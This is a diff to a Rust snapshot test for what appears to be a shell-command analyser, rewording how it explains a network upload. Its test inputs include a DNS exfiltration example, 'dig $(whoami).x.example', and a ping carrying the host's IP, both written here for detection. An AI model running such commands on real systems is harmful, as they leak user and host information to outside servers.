@@ -130,7 +130,7 @@ mod tests {
         }
         assert_snapshot!(check_because("dig $(whoami).x.example"), @"
         exec.read whoami, read: -
-        net.upload *, send, partial: the name that is looked up ending in .x.example is in part the output of a command
+        net.upload *, send, partial: the name that is looked up ending in .x.example is in part a number or name that is made up as it runs
         net.read *, read: -
         ");
         assert_snapshot!(check_because("ping -c1 $(hostname -I)"), @"
